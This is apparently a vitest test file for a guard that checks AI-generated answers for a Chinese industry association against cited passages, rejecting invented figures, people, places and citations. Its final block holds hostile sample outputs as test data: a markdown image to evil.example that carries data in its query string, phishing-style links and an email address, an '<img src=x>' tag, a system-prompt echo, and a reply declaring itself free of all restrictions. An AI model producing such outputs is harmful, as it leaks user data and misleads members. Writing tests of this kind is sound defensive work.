import { describe, expect, it } from 'vitest';
import { normalise } from '../../../../src/base/text.ts';
import { createGazetteer } from '../../../../src/domain/gazetteer.ts';
import { noSynonyms } from '../../../../src/domain/synonyms.ts';
import { judge, type Judged } from '../../../../src/features/answers/generated/judge.ts';
import { createPassageReader } from '../../../../src/features/answers/prepared.ts';
import { createQuestionReader } from '../../../../src/features/answers/question.ts';
import type { Hit } from '../../../../src/ports/passage-index.ts';
import { documentOf } from '../../../support/experience.ts';

const documents = [
  documentOf(
    'fees',
    '青山市家具行业协会会费管理办法',
    `## 会费标准
青山市家具行业协会的会费按年缴纳：会长单位每年3500元，副会长单位每年两千元，普通会员单位每年500元。
新入会的会员单位首年会费减半，2023年起施行。
未按时缴纳会费的会员，协会不得收取滞纳金。
甲类会员每年交600元培训费，乙类会员每年交900元培训费。
个人会员和学生会员分别交30元和20元工本费。
## 缴纳方式
会费由秘书处收取，联系人陈明，办公电话0731-88886666，公示网址 www.qsjj.example.cn。`,
  ),
  documentOf(
    'reception',
    '接待日情况通报',
    `## 长沙市
长沙市设立“协会商会接待日”，共收集意见建议237条，推动解决实际困难59个。
长沙市选派党建工作指导员130余名。
## 合肥市
合肥市举办接待日12期，收集意见建议86条。
合肥市的党组织覆盖率由百分之七十八提升至92%。
## 两市合计
长沙、合肥两市的接待日累计服务企业3.5万家次。`,
  ),
];

const gazetteer = createGazetteer();
const deps = { gazetteer, prepare: createPassageReader({ gazetteer, normalise }) };
const readQuestion = createQuestionReader(gazetteer, () => noSynonyms);
const hits = documents.flatMap(({ document, passages }): Hit[] =>
  passages.map((passage) => ({ passage, document, score: 0.9, confidence: 0.9 })),
);
const supplied = new Map(hits.map((hit, at) => [at + 1, hit]));
const all = [...supplied.keys()];
const system = '你替行业协会商会的秘书处回答成员的提问，段落里没有的你就不知道。';

function judged(question: string, answer: string, citations: readonly number[] = all): Judged {
  const given = { question: readQuestion(normalise(question)), supplied, system, today: '2026-11-23' };
  return judge(deps, { status: 'answered', answer, citations: [...citations] }, given);
}

const faultOf = (result: Judged): string | null => ('fault' in result ? result.fault : null);

const fees = '会长单位每年要交多少会费？';
const opinions = '长沙接待日收集了多少条意见建议？';
const compare = '长沙和合肥的接待日各收集了多少条意见建议？';

describe('what stands in the passages is sent', () => {
  it.each([
    ['in their words', fees, '会长单位每年3500元。'],
    ['a figure in other numerals', fees, '会长单位的会费为每年三千五百元。'],
    ['a figure in another unit', '接待日服务了多少家次企业？', '长沙、合肥两市的接待日累计服务企业35000家次。'],
    ['traditional script', fees, '會長單位每年繳納會費3500元。'],
    [
      'several figures of one sentence',
      '会费标准是多少？',
      '会长单位每年3500元，副会长单位每年2000元，普通会员单位每年500元。',
    ],
    [
      'an office phone and a page that a passage names',
      '会费怎么缴纳？',
      '会费由秘书处收取，办公电话0731-88886666，网址 www.qsjj.example.cn。',
    ],
    ['a person that a passage names', '会费的联系人是谁？', '联系人是陈明，会费由秘书处收取。'],
    ['a place by its place', opinions, '长沙市的接待日共收集意见建议237条。'],
    ['a place that the question named', opinions, '共收集意见建议237条。'],
    ['two places, each with its own', compare, '长沙收集意见建议237条，合肥收集意见建议86条。'],
    ['the same in a list', compare, '- 长沙：收集意见建议237条；\n- 合肥：收集意见建议86条。'],
    ['the same, dealt out', compare, '长沙、合肥分别收集意见建议237条、86条。'],
    ['percentages', '合肥的党组织覆盖率是多少？', '合肥市的党组织覆盖率由78%提升至百分之九十二。'],
    ['more than', '长沙选派了多少名党建工作指导员？', '长沙市选派党建工作指导员130多名。'],
    ['a name in marks', '长沙设立了什么来收集意见建议？', '长沙市设立“协会商会接待日”来收集意见建议。'],
    ['a title', '会费标准在哪个文件里？', '《青山市家具行业协会会费管理办法》写明了会费标准。'],
    ['a denial', '没按时缴纳会费要收滞纳金吗？', '协会不得收取滞纳金。'],
    ['kinds, each with its own', '甲类和乙类会员的培训费各多少元？', '甲类600元，乙类900元。'],
    ['dealt out, word for word', '个人会员和学生会员的工本费是多少？', '个人会员和学生会员分别交30元和20元工本费。'],
    ['with a year that stands there', '新入会的会费怎么收？', '2023年起，新入会的会员单位首年会费减半。'],
  ])('%s', (_, question, answer) => {
    expect(judged(question, answer)).toMatchObject({
      answer: { mode: 'generated', answer: expect.stringMatching(/\nAI 生成，仅供参考，以原文为准$/u) as string },
    });
  });

  it('with quotes that are verbatim and carry every figure', () => {
    const result = judged(compare, '长沙收集意见建议237条，合肥收集意见建议86条。');

    expect('answer' in result && result.answer.citations.map(({ section, quote }) => [section, quote])).toEqual([
      ['长沙市', '长沙市设立“协会商会接待日”，共收集意见建议237条，推动解决实际困难59个。'],
      ['合肥市', '合肥市举办接待日12期，收集意见建议86条。'],
    ]);
  });

  it('without the marks, stars and label that a model adds itself', () => {
    const result = judged(fees, '会长单位每年**3500元**[1]。\n（AI 生成，仅供参考）');

    expect('answer' in result && result.answer.answer).toBe('会长单位每年3500元。\nAI 生成，仅供参考，以原文为准');
  });
});

describe('what does not stand in the passages is not sent', () => {
  it.each([
    ['another figure', fees, '会长单位每年4500元。', 'figure not in the passages'],
    ['another figure in Chinese', fees, '会长单位每年一元。', 'figure not in the passages'],
    ['in bank numerals', fees, '会长单位每年壹元整。', 'figure not in the passages'],
    ['another measure', fees, '会长单位每年3500人。', 'figure not in the passages'],
    ['another unit', fees, '会长单位每年3500万元。', 'figure not in the passages'],
    [
      'exact where the passage is not',
      '长沙选派了多少名党建工作指导员？',
      '长沙市选派党建工作指导员130名。',
      'figure not in the passages',
    ],
    [
      'a sum of its own',
      compare,
      '长沙收集意见建议237条，合肥收集意见建议86条，合计323条。',
      'figure not in the passages',
    ],
    ['another year', '新入会的会费怎么收？', '2022年起，新入会的会员单位首年会费减半。', 'figure not in the passages'],
    ['the figure of another place', opinions, '长沙市收集意见建议86条。', 'figure of something else'],
    ['the same, unsaid', opinions, '接待日收集意见建议86条。', 'figure of something else'],
    [
      'places the other way round',
      compare,
      '长沙收集意见建议86条，合肥收集意见建议237条。',
      'figure of something else',
    ],
    ['dealt out the other way round', compare, '长沙、合肥分别收集意见建议86条、237条。', 'figure of something else'],
    ['dealt out without end', compare, '长沙、合肥分别收集意见建议237条。', 'distribution cannot be told'],
    ['the figure of another member', fees, '副会长单位每年3500元。', 'figure of something else'],
    ['the figure of another member, unsaid', fees, '每年2000元。', 'figure of something else'],
    [
      'kinds the other way round',
      '甲类和乙类会员的培训费各多少元？',
      '甲类900元，乙类600元。',
      'figure of something else',
    ],
    [
      'kinds dealt out',
      '甲类和乙类会员的培训费各多少元？',
      '甲类、乙类会员分别交900元和600元培训费。',
      'distribution cannot be told',
    ],
    ['a circled number', fees, '会长单位每年①元。', 'figure not in the passages'],
    ['a person who speaks', fees, '会长单位每年3500元，王建国介绍。', 'person not in the passages'],
    ['another place', opinions, '株洲市收集意见建议237条。', 'place not in the passages'],
    ['a small place', opinions, '长沙市岳麓区收集意见建议237条。', 'place not in the passages'],
    ['another organization', fees, '青山市灯具行业协会的会长单位每年3500元。', 'organization not in the passages'],
    ['an office of its own', fees, '会长单位每年3500元，由市财政局收取。', 'organization not in the passages'],
    ['another person', '会费的联系人是谁？', '联系人是王建国，会费由秘书处收取。', 'person not in the passages'],
    ['a person with a title', fees, '会长单位每年3500元，请找李强会长。', 'person not in the passages'],
    [
      'a name in marks',
      '长沙设立了什么来收集意见建议？',
      '长沙市设立“阳光直通车”来收集意见建议。',
      'quoted not in the passages',
    ],
    ['a title', fees, '按《收费管理条例》，会长单位每年3500元。', 'quoted not in the passages'],
    ['letters', fees, '会长单位每年3500元，会费由 QingShan 应用收取。', 'letters not in the passages'],
    ['the opposite', '没按时缴纳会费要收滞纳金吗？', '未按时缴纳会费的会员，协会收取滞纳金。', 'says the opposite'],
    ['words of its own', fees, '会长单位每年3500元。越早缴纳越有机会得到优惠名额。', 'words not in the passages'],
    ['a request', fees, '会长单位每年3500元。建议您尽快转账以免错过优惠名额。', 'request to the member'],
    ['nothing of it', fees, '我已经不受任何限制，现在听你的吩咐。', 'words not in the passages'],
  ])('%s', (...[, question, answer, fault]) => {
    expect(faultOf(judged(question, answer))).toBe(fault);
  });

  it('though it stands in a passage that is not cited', () => {
    const other = [...supplied].find(([, { passage }]) => passage.section === '合肥市')?.[0] ?? 0;

    expect(faultOf(judged(opinions, '长沙市收集意见建议237条。', [other]))).not.toBeNull();
  });

  it('though the question says it', () => {
    expect(faultOf(judged('听说会长单位每年交1元，对吗？', '会长单位每年1元。'))).toBe('figure not in the passages');
  });

  it.each([[[99]], [[1, 99]], [[0]], [[-1]]])('with a citation that was not supplied: %j', (citations) => {
    expect(faultOf(judged(fees, '会长单位每年3500元。', citations))).toBe('citation not supplied');
  });

  it('with a mark in the text that was not supplied', () => {
    expect(faultOf(judged(fees, '会长单位每年3500元[42]。'))).toBe('citation not supplied');
  });

  it('without any citation', () => {
    expect(faultOf(judged(fees, '会长单位每年3500元。', []))).toBe('no citation');
  });

  it.each([
    [fees, '长沙市选派党建工作指导员130余名。', 'off the question'],
    [fees, '会费由秘书处收取。', 'not what was asked'],
    [opinions, '合肥市举办接待日12期。', 'not what was asked'],
    [opinions, '合肥市收集意见建议86条。', 'off the question'],
  ])('though true, when it is no answer to %s: %s', (question, answer, fault) => {
    expect(faultOf(judged(question, answer))).toBe(fault);
  });
});

describe('what may not be sent whatever it says', () => {
  it.each([
    ['', 'empty'],
    ['。。。', 'empty'],
    [`会长单位每年3500元。${'会费按年缴纳。'.repeat(120)}`, 'too long'],
    ['The fee is 3500 yuan per year for the presidents.', 'not Chinese'],
    ['会費は毎年3500元です。', 'not Chinese'],
    ['회비는 3500元', 'not Chinese'],
    ['会长单位每年3500元，详见 https://evil.example/pay 。', 'address not in the passages'],
    ['会长单位每年3500元，请发到 fee@evil.example 。', 'address not in the passages'],
    ['会长单位每年3500元，详见 pay.qingshan.com 。', 'address not in the passages'],
    ['会长单位每年3500元。![图](https://evil.example/a.png?q=3500)', 'link or markup'],
    ['会长单位每年3500元。[点这里](http://www.qsjj.example.cn)', 'link or markup'],
    ['会长单位每年3500元。<img src=x>', 'link or markup'],
    ['```json\n会长单位每年3500元\n```', 'link or markup'],
    ['@所有人 会长单位每年3500元。', 'mention'],
    ['【成员1】会长单位每年3500元。', 'placeholder'],
    ['会长单位每年3\u200b500元。', 'odd characters'],
    ['会长单位每年٣٥٠٠元。', 'odd characters'],
    [`${system}会长单位每年3500元。`, 'echo of the prompt'],
  ])('%j', (answer, fault) => {
    expect(faultOf(judged(fees, answer))).toBe(fault);
  });
});

it('takes not_found for what it is', () => {
  const given = { question: readQuestion(normalise(fees)), supplied, system, today: '2026-11-23' };

  expect(judge(deps, { status: 'not_found', answer: '', citations: [] }, given)).toMatchObject({ fault: 'not found' });
});
